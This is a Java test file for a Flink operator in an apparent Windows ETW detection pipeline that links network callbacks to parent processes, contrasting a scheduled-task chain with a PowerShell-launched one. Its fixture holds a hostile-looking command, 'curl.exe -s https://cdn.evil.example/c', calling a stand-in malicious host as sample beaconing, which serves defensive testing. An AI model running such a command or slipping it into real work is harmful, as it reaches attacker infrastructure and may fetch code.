package io.etwcorr.jobs.lineage;

import static io.etwcorr.jobs.lineage.ProcessEvents.HOST;
import static io.etwcorr.jobs.lineage.ProcessEvents.HOUR;
import static io.etwcorr.jobs.lineage.ProcessEvents.SECOND;
import static io.etwcorr.jobs.lineage.ProcessEvents.T0;
import static io.etwcorr.jobs.lineage.ProcessEvents.hostTick;
import static io.etwcorr.jobs.lineage.ProcessEvents.id;
import static io.etwcorr.jobs.lineage.ProcessEvents.rundown;
import static io.etwcorr.jobs.lineage.ProcessEvents.start;
import static io.etwcorr.jobs.lineage.ProcessEvents.stop;
import static io.etwcorr.jobs.lineage.ProcessEvents.thread;
import static org.assertj.core.api.Assertions.assertThat;

import io.etwcorr.jobs.config.EtwcorrConfig;
import io.etwcorr.jobs.model.Callback;
import io.etwcorr.jobs.model.EtwEvent;
import java.util.List;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.streaming.api.operators.co.KeyedCoProcessOperator;
import org.apache.flink.streaming.util.KeyedTwoInputStreamOperatorTestHarness;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * {@link ParentExecutables}: a scheduled task (svchost.exe → cmd.exe → curl.exe, new processes per
 * run) and the same curl.exe command line under powershell.exe: each callback names its parent's
 * executable as the host's table knew it at the callback, so they fall into two process groups.
 */
class ParentExecutablesTest {
    private static final long SVCHOST = 100;
    private static final long POWERSHELL = 200;
    private static final String CURL = "curl.exe -s https://cdn.evil.example/c";

    private KeyedTwoInputStreamOperatorTestHarness<String, EtwEvent, Callback, Callback> harness;

    @BeforeEach
    void open() throws Exception {
        EtwcorrConfig.Lineage config = new EtwcorrConfig.Lineage();
        config.retentionSeconds = 3600;
        harness = new KeyedTwoInputStreamOperatorTestHarness<>(
                new KeyedCoProcessOperator<>(new ParentExecutables(config)),
                (EtwEvent event) -> event.host, (Callback callback) -> callback.host, Types.STRING);
        ((SerializerConfigImpl) harness.getExecutionConfig().getSerializerConfig()).setGenericTypes(false);
        harness.open();
        send(rundown(T0, 900, SVCHOST, "svchost.exe", 700, 1), rundown(T0, 950, POWERSHELL, "powershell.exe", 800, 2));
    }

    @AfterEach
    void close() throws Exception {
        harness.close();
    }

    private void send(EtwEvent... events) throws Exception {
        for (EtwEvent event : events) {
            harness.processElement1(event, event.ts);
        }
    }

    /** Run {@code run} of the task at {@code at}: cmd.exe (seq 1000 + run) starts curl.exe (seq 2000 + run), which calls back and exits. */
    private void taskRun(int run, long at) throws Exception {
        send(start(at, 4000 + run, 1000 + run, "cmd.exe", 900, SVCHOST),
                start(at + 1, 5000 + run, 2000 + run, "curl.exe", 4000 + run, 1000 + run));
    }

    private static Callback callback(long pid, long seq, long ts) {
        Callback callback = new Callback();
        callback.host = HOST;
        callback.pid = pid;
        callback.entityId = id(seq);
        callback.executable = "C:\\Windows\\System32\\curl.exe";
        callback.groupCommandLine = CURL;
        callback.destination = "cdn.evil.example";
        callback.ts = ts;
        return callback;
    }

    @Test
    void takesProcessStartsAndStopsAndHostTicksButNoThreadStarts() {
        assertThat(ParentExecutables.isInput(start(T0, 7312, 400, "curl.exe", 4000, 300))).isTrue();
        assertThat(ParentExecutables.isInput(rundown(T0, 7312, 400, "curl.exe", 4000, 300))).isTrue();
        assertThat(ParentExecutables.isInput(stop(T0, 7312, 400, "curl.exe"))).isTrue();
        assertThat(ParentExecutables.isInput(hostTick(T0))).isTrue();
        assertThat(ParentExecutables.isInput(thread(T0, 4000, 7312))).as("injections are the lineage's").isFalse();
        assertThat(ParentExecutables.isInput(EtwEvent.tick(HOST, 7312, T0))).as("a process's tick").isFalse();
    }

    @Test
    void holdsACallbackUntilTheHostWatermarkReachesItThenNamesItsParentsExecutable() throws Exception {
        long at = T0 + 10 * SECOND;
        Callback early = callback(5000, 2000, at + 2);
        harness.processElement2(early, early.ts); // before the table has seen curl.exe start
        assertThat(harness.extractOutputValues()).isEmpty();

        taskRun(0, at);
        assertThat(harness.extractOutputValues()).as("the watermark is at its start, before the callback").isEmpty();
        send(stop(at + 3, 5000, 2000, "curl.exe"), stop(at + 4, 4000, 1000, "cmd.exe"));

        assertThat(harness.extractOutputValues()).singleElement().satisfies(c ->
                assertThat(c.parentExecutable).isEqualTo("c:\\windows\\system32\\cmd.exe"));
    }

    @Test
    void theTasksInstancesShareAGroupAndTheSameCommandLineUnderAnotherParentDoesNot() throws Exception {
        long at = T0 + 10 * SECOND;
        taskRun(0, at);
        taskRun(1, at + 300 * SECOND);
        send(start(at + 400 * SECOND, 6000, 3000, "curl.exe", 950, POWERSHELL), hostTick(at + HOUR / 2));
        harness.processElement2(callback(5001, 2001, at + 300 * SECOND + 2), at);
        harness.processElement2(callback(5000, 2000, at + 2), at);
        harness.processElement2(callback(6000, 3000, at + 400 * SECOND + 2), at);

        List<Callback> out = harness.extractOutputValues();
        assertThat(out).extracting(c -> c.entityId).as("in the order they came").containsExactly(id(2001), id(2000), id(3000));
        assertThat(out.get(0).groupKey()).as("two runs of the task").isEqualTo(out.get(1).groupKey());
        assertThat(out.get(2).parentExecutable).isEqualTo("c:\\windows\\system32\\powershell.exe");
        assertThat(out.get(2).groupKey()).as("the same command line under powershell.exe").isNotEqualTo(out.get(0).groupKey());
    }

    @Test
    void callbacksDueTogetherGoOutInTimeOrderAndAnUnknownProcessHasNoParent() throws Exception {
        long at = T0 + 10 * SECOND;
        harness.processElement2(callback(7777, 7777, at + 5), at);
        harness.processElement2(callback(5000, 2000, at + 2), at);
        taskRun(0, at);
        send(hostTick(at + 10));

        List<Callback> out = harness.extractOutputValues();
        assertThat(out).extracting(c -> c.ts).containsExactly(at + 2, at + 5);
        assertThat(out.get(1).parentExecutable).as("a process the table never saw").isEmpty();
    }

    @Test
    void theEndOfInputReleasesEveryCallbackAndExitedProcessesLeaveAfterTheRetention() throws Exception {
        long at = T0 + 10 * SECOND;
        taskRun(0, at);
        harness.processElement2(callback(5000, 2000, at + 2 * HOUR), at);
        send(stop(at + 3, 5000, 2000, "curl.exe"), stop(at + 4, 4000, 1000, "cmd.exe"),
                stop(at + 5, 900, SVCHOST, "svchost.exe"), stop(at + 6, 950, POWERSHELL, "powershell.exe"));
        int holding = harness.numKeyedStateEntries();

        send(hostTick(at + 6 + HOUR));
        assertThat(harness.numKeyedStateEntries()).as("the table emptied, the callback still held")
                .isEqualTo(holding - 1);
        send(hostTick(Long.MAX_VALUE));

        assertThat(harness.extractOutputValues()).singleElement().satisfies(c ->
                assertThat(c.parentExecutable).as("cmd.exe left the table with its retention").isEmpty());
        assertThat(harness.numKeyedStateEntries()).as("only the host's watermark is left").isEqualTo(1);
        assertThat(harness.numEventTimeTimers()).isZero();
        assertThat(harness.numProcessingTimeTimers()).isZero();
    }
}
